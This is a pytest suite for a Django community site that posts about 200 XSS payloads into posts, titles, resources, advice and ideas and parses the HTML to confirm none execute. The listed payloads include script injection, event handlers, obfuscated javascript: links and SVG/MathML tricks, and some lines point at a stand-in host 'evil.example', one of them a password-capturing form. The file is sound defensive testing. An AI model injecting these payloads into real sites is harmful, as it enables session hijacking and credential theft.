"""A corpus of XSS payloads, posted through the API and the forms into community posts,
thread titles, partners' resources and stakeholders' advice.

What is stored and shown is checked by PARSING the HTML (the stdlib HTMLParser), never by
searching strings:

- the API's `body_html` holds only the markdown allow-list: no script, iframe, object,
  embed, svg, math, style, base, meta, form or any other element outside it, no on*
  attribute, no link or source with a scheme other than http, https or mailto;
- a rendered page carries no on* or style attribute and no such link anywhere, and no
  more executable elements (script, iframe, svg, meta, base, form…) than the same page
  showing harmless text: whatever it has beyond that came from user input;
- thread and resource titles are plain text: the page's heading reads exactly the title.

A payload the services refuse (markdown_problems, too many links, a null character) is a
safe outcome: then the answer is a 400 and nothing was stored.
"""

import re
from collections import Counter
from datetime import date
from html.parser import HTMLParser

import pytest
from django.test import Client
from django.urls import reverse
from rest_framework.test import APIClient

from community.drawn_versions import posts_changed
from community.models import Flag, Post, Thread
from community.moderation import flag_create
from community.services import community_create, community_join, moderator_appoint
from ecosystem.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS
from goals.services import goal_create
from milestones.services import milestone_create
from partners.models import Resource
from partners.services import organization_create
from stakeholders.models import Advice
from tests.factories import UserFactory
from tests.xss_payloads import extra_payloads
from voice.models import Idea, IdeaComment

pytestmark = pytest.mark.django_db

PAYLOADS = [
    # Script elements, plain and disguised
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<img """><script>alert(1)</script>">',
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    "<template><script>alert(1)</script></template>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    # Event handler attributes
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<IMG SRC=javascript:alert('XSS')>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<frameset onload=alert(1)>",
    '<a href="https://example.org" target=_blank onclick=alert(1)>x</a>',
    "**bold** <img src=x onerror=alert(1)> [ok](https://example.org)",
    # javascript: and data: links, in markdown and in HTML
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "![img](javascript:alert(1))",
    '![img](x" onerror="alert(1))',
    '[x](https://example.org" onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\nA [reference link][x]",
    "[x]: data:text/html,hi\n\nA [reference link][x]",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    # Entity-encoded and obfuscated schemes
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
    "[click](java%0Ascript:alert(1))",
    '<a href="&#14;javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "[click](jav&#x09;ascript:alert(1))",
    # SVG and MathML tricks
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
    "</table></mtext></math>",
    '<math href="javascript:alert(1)">CLICK</math>',
    # Frames and plugins
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    # CSS, meta refresh, base href, forms
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width: expression(alert(1))">x</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/steal"><input name=password><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    # Broken markup and comments
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<a href='https://example.org'>unclosed <b>bold",
    "<img src=x onerror=alert(1)//",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # Harmless text that looks dangerous, and plain safe links
    "`<script>` is a tag name",
    "Email [us](mailto:help@example.org) or see [the guide](https://example.org/guide)",
]
# About 140 more, by family (tests/xss_payloads.py): about 200 in all.
PAYLOADS += [payload for payload in extra_payloads() if payload not in PAYLOADS]

HARMLESS = "Thin **early**, see [the guide](https://example.org/guide)."

EXECUTABLE_ELEMENTS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math",
    "style", "link", "base", "meta", "form", "template", "noscript", "isindex",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "poster", "background", "xlink:href",
    "srcset", "cite", "longdesc", "codebase", "lowsrc", "dynsrc", "ping", "manifest", "icon",
    "usemap", "classid", "archive",
}  # fmt: skip
SAFE_SCHEMES = {"http", "https", "mailto"}
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")
# Browsers skip these inside and around a URL's scheme (tab, newlines, C0 controls, space).
_IGNORED_IN_URL = re.compile(r"[\x00-\x20]")
# Markdown's link attributes plus the rel nh3 adds to every link.
BODY_ATTRIBUTES = {tag: set(names) for tag, names in ALLOWED_ATTRIBUTES.items()}
BODY_ATTRIBUTES.setdefault("a", set()).add("rel")


def scheme_of(url: str) -> str | None:
    match = _SCHEME.match(_IGNORED_IN_URL.sub("", url).lower())
    return match.group(1) if match else None


class Markup(HTMLParser):
    """The elements and attributes of some HTML, as a browser would see them (entities in
    attribute values decoded), and the text of its first <h1>."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict]] = []
        self.heading: str | None = None
        self._in_heading = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        if tag == "h1" and self.heading is None:
            self._in_heading, self.heading = True, ""

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_endtag(self, tag):
        if tag == "h1":
            self._in_heading = False

    def handle_data(self, data):
        if self._in_heading:
            self.heading += data

    def problems(self) -> list[str]:
        """Executable attributes and links, wherever they are."""
        found = []
        for tag, attributes in self.elements:
            for name, value in attributes.items():
                if name.startswith("on") or name in {"style", "srcdoc"}:
                    found.append(f"<{tag} {name}=…>")
                elif name in URL_ATTRIBUTES:
                    scheme = scheme_of(value)
                    if scheme is not None and scheme not in SAFE_SCHEMES:
                        found.append(f"<{tag} {name}={value!r}>")
        return found

    def executable(self) -> Counter:
        """The executable elements, each with its attributes (nonces and ids left out, so
        the same page with other content compares equal)."""
        return Counter(
            (tag, tuple(sorted((n, re.sub(r"\d+", "N", v)) for n, v in a.items() if n != "nonce")))
            for tag, a in self.elements
            if tag in EXECUTABLE_ELEMENTS
        )


def body_html_problems(html: str) -> list[str]:
    """`body_html` from the API: the markdown allow-list only, and no unsafe link."""
    markup = Markup(html)
    found = markup.problems()
    for tag, attributes in markup.elements:
        if tag not in ALLOWED_TAGS:
            found.append(f"<{tag}> is not in the allow-list")
        extra = set(attributes) - BODY_ATTRIBUTES.get(tag, set())
        if extra:
            found.append(f"<{tag}> has {sorted(extra)}")
    return found


def page_problems(html: str, baseline: Counter) -> list[str]:
    """A rendered page: nothing executable beyond what the same page has with harmless
    text."""
    markup = Markup(html)
    extra = markup.executable() - baseline
    return markup.problems() + [f"extra {element}" for element in extra]


class Corpus:
    """Collects what went wrong for each payload, so one run reports them all."""

    def __init__(self):
        self.failures: list[str] = []
        self.outcomes: Counter = Counter()  # how many were stored, how many refused

    def outcome(self, stored: bool) -> bool:
        self.outcomes["stored" if stored else "refused"] += 1
        return stored

    def check(self, payload: str, where: str, problems: list[str]) -> None:
        if problems:
            self.failures.append(f"{where} {payload!r}: {problems}")

    def expect(self, payload: str, where: str, condition: bool, what: str) -> None:
        if not condition:
            self.failures.append(f"{where} {payload!r}: {what}")

    def assert_clean(self) -> None:
        assert self.failures == [], "\n".join(self.failures)


def test_the_corpus_is_large_and_varied():
    assert len(PAYLOADS) >= 200
    assert len(set(PAYLOADS)) == len(PAYLOADS)
    for trick in ("<script", "onerror", "javascript:", "data:", "<svg", "<math", "&#", "style="):
        assert any(trick in payload for payload in PAYLOADS), trick


def test_the_checker_catches_what_it_is_for():
    """The checks themselves, on markup that would execute."""
    assert body_html_problems('<p><a href="javascript:alert(1)">x</a></p>')
    assert body_html_problems('<a href="&#x6A;avascript:alert(1)">x</a>')
    assert body_html_problems('<a href="jav\tascript:alert(1)">x</a>')
    assert body_html_problems("<img src=x onerror=alert(1)>")
    assert body_html_problems("<svg><circle></circle></svg>")
    assert body_html_problems('<p style="color:red">x</p>')
    assert not body_html_problems('<p><a href="https://example.org" rel="nofollow">x</a></p>')
    page = "<html><head><script nonce=a src=/static/app.js></script></head><body>{}</body></html>"
    baseline = Markup(page.format("<p>x</p>")).executable()
    assert page_problems(page.format("<script>alert(1)</script>"), baseline)
    assert page_problems(page.format('<meta http-equiv="refresh" content="0">'), baseline)
    assert page_problems(page.format('<base href="https://evil.example/">'), baseline)
    assert not page_problems(page.format("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"), baseline)


# --- The world the payloads are posted into -----------------------------------------------


@pytest.fixture
def people(db):
    staff = UserFactory(is_staff=True, display_name="Sam Staff")
    writer = UserFactory(display_name="Wiremu Writer")
    reader = UserFactory(display_name="Rangi Reader")
    moderator = UserFactory(display_name="Moana Moderator")
    return {"staff": staff, "writer": writer, "reader": reader, "moderator": moderator}


@pytest.fixture
def growers(people):
    community = community_create(by=people["staff"], name="Apple growers", purpose="Apples")
    for role in ("writer", "reader"):
        community_join(community=community, user=people[role])
    moderator_appoint(community=community, user=people["moderator"], by=people["staff"])
    return community


def api(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def browser(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def new_thread(growers, writer, title="A question") -> Thread:
    response = api(writer).post(
        f"/api/v1/communities/{growers.slug}/threads/",
        {"title": title, "kind": "question", "body": HARMLESS},
        format="json",
    )
    assert response.status_code == 201, response.content
    return Thread.objects.get(pk=response.json()["id"])


@pytest.mark.unsafe_markup
def test_the_page_check_catches_markup_stored_around_the_sanitiser(people, growers):
    """Were a post stored without the services, the thread page check would say so."""
    thread = new_thread(growers, people["writer"])
    page = browser(people["reader"]).get(thread.get_absolute_url()).content.decode()
    baseline = Markup(page).executable()
    assert page_problems(page, baseline) == []

    for unsafe in (
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        '<a href="java&#x09;script:alert(1)">x</a>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        "<svg><circle r=1></circle></svg>",
    ):
        Post.objects.filter(thread=thread).update(body_html=unsafe)
        posts_changed(thread.pk)  # what every writer sending no signal does (drawn_versions)
        page = browser(people["reader"]).get(thread.get_absolute_url()).content.decode()
        assert page_problems(page, baseline), unsafe


# --- Community posts ------------------------------------------------------------------------


def test_payloads_in_posts_through_the_api_and_the_forms_never_execute(people, growers, settings):
    settings.MODERATION_FLAG_THRESHOLD = 1000  # flagged below, but kept in view
    writer, reader = people["writer"], people["reader"]
    corpus = Corpus()
    baseline_thread = new_thread(growers, writer, "Baseline")
    for _reply in range(2):  # as many posts as a payload's thread: question, API, form
        api(writer).post(f"/api/v1/threads/{baseline_thread.pk}/posts/", {"body": HARMLESS})
    thread_baseline = Markup(
        browser(reader).get(baseline_thread.get_absolute_url()).content.decode()
    ).executable()
    moderation_pages = {
        "/moderation/": people["moderator"],
        "/moderation/log/": people["staff"],
        "/moderation/my-flags/": reader,
    }
    moderation_baselines = {
        url: Markup(browser(user).get(url).content.decode()).executable()
        for url, user in moderation_pages.items()
    }

    for index, payload in enumerate(PAYLOADS):
        thread = new_thread(growers, writer, f"Thread {index}")
        before = Post.objects.count()
        response = api(writer).post(
            f"/api/v1/threads/{thread.pk}/posts/", {"body": payload}, format="json"
        )
        if corpus.outcome(response.status_code == 201):
            corpus.check(payload, "API body_html", body_html_problems(response.json()["body_html"]))
            listed = api(reader).get(f"/api/v1/threads/{thread.pk}/posts/").json()["results"]
            for post in listed:
                corpus.check(payload, "API list", body_html_problems(post["body_html"]))
            flag_create(by=reader, post=Post.objects.latest("pk"), reason="spam", note=payload)
        else:
            corpus.expect(payload, "API", response.status_code == 400, f"{response.status_code}")
            corpus.expect(payload, "API", Post.objects.count() == before, "stored anyway")

        before = Post.objects.count()
        answer = browser(writer).post(
            reverse("community:reply", args=[thread.pk]), {"body": payload}
        )
        if answer.status_code == 302:
            page = browser(reader).get(thread.get_absolute_url()).content.decode()
            corpus.check(payload, "thread page", page_problems(page, thread_baseline))
        else:
            corpus.expect(payload, "form", answer.status_code == 400, f"{answer.status_code}")
            corpus.expect(payload, "form", Post.objects.count() == before, "stored anyway")
            # The refused text comes back in the form: escaped, never executed.
            refused = answer.content.decode()
            corpus.check(payload, "refused form", page_problems(refused, thread_baseline))
    corpus.assert_clean()
    # Both ways were taken: stored and shown safely, or refused with nothing stored.
    assert corpus.outcomes["stored"] >= 10 and corpus.outcomes["refused"] >= 40, corpus.outcomes
    assert Post.objects.filter(flags__isnull=False).exists()

    # Moderators see the same content in the queue and the log, and flaggers in theirs.
    queue = api(people["moderator"]).get("/api/v1/moderation/queue/?page_size=200").json()
    for item in queue["results"]:
        corpus.check("(queue)", "API queue body_html", body_html_problems(item["body_html"]))
    for url, user in moderation_pages.items():
        for page_number in (1, 2):
            page = browser(user).get(f"{url}?page={page_number}").content.decode()
            corpus.check("(moderation)", url, Markup(page).problems())
            extra = Markup(page).executable() - moderation_baselines[url]
            # Each queue item brings its own action form (a POST to /moderation/…/act/).
            unexpected = [
                element
                for element in extra
                if not (
                    element[0] == "form" and ("action", "/moderation/posts/N/act/") in element[1]
                )
            ]
            corpus.check("(moderation)", f"{url}?page={page_number}", unexpected)
    corpus.assert_clean()


# --- Thread titles: plain text ----------------------------------------------------------------


def test_payloads_in_thread_titles_are_escaped_text(people, growers):
    writer, reader = people["writer"], people["reader"]
    corpus = Corpus()
    baseline_thread = new_thread(growers, writer, "Baseline")
    thread_baseline = Markup(
        browser(reader).get(baseline_thread.get_absolute_url()).content.decode()
    ).executable()
    community_baseline = Markup(
        browser(reader).get(growers.get_absolute_url()).content.decode()
    ).executable()
    create_url = reverse("community:thread-create", args=[growers.slug])

    titles = [payload for payload in PAYLOADS if len(payload) <= 200]
    for payload in titles:
        before = Thread.objects.count()
        response = api(writer).post(
            f"/api/v1/communities/{growers.slug}/threads/",
            {"title": payload, "kind": "tip", "body": HARMLESS},
            format="json",
        )
        stored = []
        if response.status_code == 201:
            corpus.expect(payload, "API", response.json()["title"] == payload.strip(), "changed")
            stored.append(Thread.objects.get(pk=response.json()["id"]))
        else:
            corpus.expect(payload, "API", response.status_code == 400, f"{response.status_code}")
            corpus.expect(payload, "API", Thread.objects.count() == before, "stored anyway")

        before = Thread.objects.count()
        answer = browser(writer).post(
            create_url, {"title": payload, "kind": "tip", "body": HARMLESS}
        )
        if answer.status_code == 302:
            stored.append(Thread.objects.latest("pk"))
        else:
            corpus.expect(payload, "form", answer.status_code == 400, f"{answer.status_code}")
            corpus.expect(payload, "form", Thread.objects.count() == before, "stored anyway")

        for thread in stored:
            page = browser(reader).get(thread.get_absolute_url()).content.decode()
            corpus.check(payload, "thread page", page_problems(page, thread_baseline))
            corpus.expect(
                payload, "thread page", Markup(page).heading == thread.title, "not plain text"
            )
        listing = browser(reader).get(growers.get_absolute_url()).content.decode()
        corpus.check(payload, "community page", page_problems(listing, community_baseline))
        # The list grows by one thread item per title: compare the newest's link text.
        Thread.objects.filter(pk__in=[thread.pk for thread in stored]).delete()
    corpus.assert_clean()


# --- Partners' resources ----------------------------------------------------------------------


@pytest.fixture
def supplier(people):
    return organization_create(by=people["writer"], name="Orchard Supplies", kind="supplier")


def test_payloads_in_resources_through_the_api_and_the_form_never_execute(people, supplier):
    writer, reader = people["writer"], people["reader"]
    corpus = Corpus()
    made = api(writer).post(
        "/api/v1/resources/",
        {
            "organization": supplier.slug,
            "kind": "guide",
            "title": "Baseline",
            "summary": "Plain",
            "body": HARMLESS,
            "link": "https://example.org/guide",
            "status": "published",
        },
        format="json",
    )
    assert made.status_code == 201, made.content
    baseline = Markup(
        browser(reader)
        .get(reverse("partners:resource-detail", args=[made.json()["id"]]))
        .content.decode()
    ).executable()
    create_url = reverse("partners:resource-create", args=[supplier.slug])

    for payload in PAYLOADS:
        title = payload[:200]
        before = Resource.objects.count()
        response = api(writer).post(
            "/api/v1/resources/",
            {
                "organization": supplier.slug,
                "kind": "guide",
                "title": title,
                "summary": payload[:300],
                "body": payload,
                "status": "published",
            },
            format="json",
        )
        stored = []
        if response.status_code == 201:
            corpus.check(payload, "API body_html", body_html_problems(response.json()["body_html"]))
            stored.append(Resource.objects.get(pk=response.json()["id"]))
        else:
            corpus.expect(payload, "API", response.status_code == 400, f"{response.status_code}")
            corpus.expect(payload, "API", Resource.objects.count() == before, "stored anyway")

        before = Resource.objects.count()
        answer = browser(writer).post(
            create_url,
            {"kind": "guide", "title": title, "summary": payload[:300], "body": payload,
             "action": "publish"},
        )  # fmt: skip
        if answer.status_code == 302:
            stored.append(Resource.objects.latest("pk"))
        else:
            corpus.expect(payload, "form", Resource.objects.count() == before, "stored anyway")
            corpus.check(payload, "refused form", Markup(answer.content.decode()).problems())

        for resource in stored:
            page = browser(reader).get(reverse("partners:resource-detail", args=[resource.pk]))
            html = page.content.decode()
            corpus.check(payload, "resource page", page_problems(html, baseline))
            heading = (Markup(html).heading or "").strip()
            corpus.expect(payload, "resource page", heading.startswith(resource.title.strip()),
                          "title not plain text")  # fmt: skip
    corpus.assert_clean()


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "java\tscript:alert(1)",
    ],
)
def test_a_resource_link_with_an_unsafe_scheme_is_refused(people, supplier, link):
    response = api(people["writer"]).post(
        "/api/v1/resources/",
        {"organization": supplier.slug, "kind": "guide", "title": "Guide", "link": link},
        format="json",
    )
    answer = browser(people["writer"]).post(
        reverse("partners:resource-create", args=[supplier.slug]),
        {"kind": "guide", "title": "Guide", "link": link, "action": "publish"},
    )

    assert response.status_code == 400
    assert "link" in response.json()["fields"]
    assert answer.status_code != 302
    assert not Resource.objects.exists()


# --- Stakeholders' advice ---------------------------------------------------------------------


def test_payloads_in_advice_through_the_api_and_the_form_never_execute(people):
    owner = people["writer"]
    goal = goal_create(by=owner, title="Export-grade Gala", target_date=date(2030, 3, 1))
    milestone = milestone_create(goal=goal, by=goal.owner, title="Thinning", duration_days=5)
    corpus = Corpus()
    api_url = f"/api/v1/milestones/{milestone.pk}/advice/"
    page_url = reverse("stakeholders:advice-post", args=[milestone.pk])
    for _advice in range(3):  # as many as the page shows with a payload's two
        assert api(owner).post(api_url, {"body": HARMLESS}, format="json").status_code == 201
    page = browser(owner).get(page_url)
    assert page.status_code == 200
    baseline = Markup(page.content.decode()).executable()
    Advice.objects.exclude(pk=Advice.objects.earliest("pk").pk).delete()
    field = next(
        attributes["name"]
        for tag, attributes in Markup(page.content.decode()).elements
        if tag == "textarea" and attributes.get("name", "").endswith("body")
    )

    for payload in PAYLOADS:
        before = Advice.objects.count()
        response = api(owner).post(api_url, {"body": payload}, format="json")
        if response.status_code == 201:
            corpus.check(payload, "API body_html", body_html_problems(response.json()["body_html"]))
        else:
            corpus.expect(payload, "API", response.status_code == 400, f"{response.status_code}")
            corpus.expect(payload, "API", Advice.objects.count() == before, "stored anyway")

        before = Advice.objects.count()
        answer = browser(owner).post(page_url, {field: payload})
        if answer.status_code == 302:
            corpus.expect(payload, "form", Advice.objects.count() == before + 1, "not stored")
        else:
            corpus.expect(payload, "form", Advice.objects.count() == before, "stored anyway")
            corpus.check(payload, "refused form", Markup(answer.content.decode()).problems())

        html = browser(owner).get(page_url).content.decode()
        corpus.check(payload, "advice page", page_problems(html, baseline))
        for advice in api(owner).get(api_url).json()["results"]:
            corpus.check(payload, "API list", body_html_problems(advice["body_html"]))
        Advice.objects.exclude(body=HARMLESS).delete()  # the page keeps the baseline's shape
    corpus.assert_clean()


def test_flag_notes_are_plain_text_in_the_queue(people, growers):
    """What flaggers write is shown to moderators as text, never as markup."""
    thread = new_thread(growers, people["writer"])
    post = Post.objects.get(thread=thread)
    flag_create(by=people["reader"], post=post, reason=Flag.Reason.OTHER, note=PAYLOADS[0])

    page = browser(people["moderator"]).get("/moderation/").content.decode()

    scripts = [attributes for tag, attributes in Markup(page).elements if tag == "script"]
    assert scripts and all(attributes.get("nonce") for attributes in scripts)
    queue = api(people["moderator"]).get("/api/v1/moderation/queue/").json()
    assert queue["results"][0]["flags"][0]["note"] == PAYLOADS[0]


# --- Ideas and their comments (the customer's voice) ------------------------------------------


def test_payloads_in_ideas_and_comments_never_execute(people):
    writer, reader = people["writer"], people["reader"]
    corpus = Corpus()
    baseline_idea = api(writer).post("/api/v1/ideas/", {"title": "Baseline", "body": HARMLESS})
    baseline_id = baseline_idea.json()["id"]
    api(writer).post(f"/api/v1/ideas/{baseline_id}/comments/", {"body": HARMLESS})
    baseline = Markup(browser(reader).get(f"/ideas/{baseline_id}/").content.decode()).executable()
    for index, payload in enumerate(PAYLOADS):
        before = Idea.objects.count()
        response = api(writer).post(
            "/api/v1/ideas/", {"title": f"Idea {index}", "body": payload}, format="json"
        )
        if corpus.outcome(response.status_code == 201):
            idea_id = response.json()["id"]
            corpus.check(
                payload, "idea body_html", body_html_problems(response.json()["body_html"])
            )
        else:
            corpus.expect(
                payload, "idea API", response.status_code == 400, f"{response.status_code}"
            )
            corpus.expect(payload, "idea API", Idea.objects.count() == before, "stored anyway")
            idea_id = api(writer).post("/api/v1/ideas/", {"title": f"Plain {index}"}).json()["id"]
        before = IdeaComment.objects.count()
        comment = api(reader).post(
            f"/api/v1/ideas/{idea_id}/comments/", {"body": payload}, format="json"
        )
        if comment.status_code == 201:
            corpus.check(
                payload, "comment body_html", body_html_problems(comment.json()["body_html"])
            )
        else:
            corpus.expect(
                payload, "comment API", comment.status_code == 400, f"{comment.status_code}"
            )
            corpus.expect(payload, "comment API", IdeaComment.objects.count() == before, "stored")
        page = browser(reader).get(f"/ideas/{idea_id}/").content.decode()
        corpus.check(payload, "idea page", page_problems(page, baseline))
        # A title is plain text: stored as sent, shown escaped.
        titled = api(writer).post("/api/v1/ideas/", {"title": payload[:200]}, format="json")
        if titled.status_code == 201:
            page = browser(reader).get(f"/ideas/{titled.json()['id']}/").content.decode()
            corpus.check(payload, "idea title page", page_problems(page, baseline))
    corpus.assert_clean()
    assert corpus.outcomes["stored"] >= 10 and corpus.outcomes["refused"] >= 40, corpus.outcomes
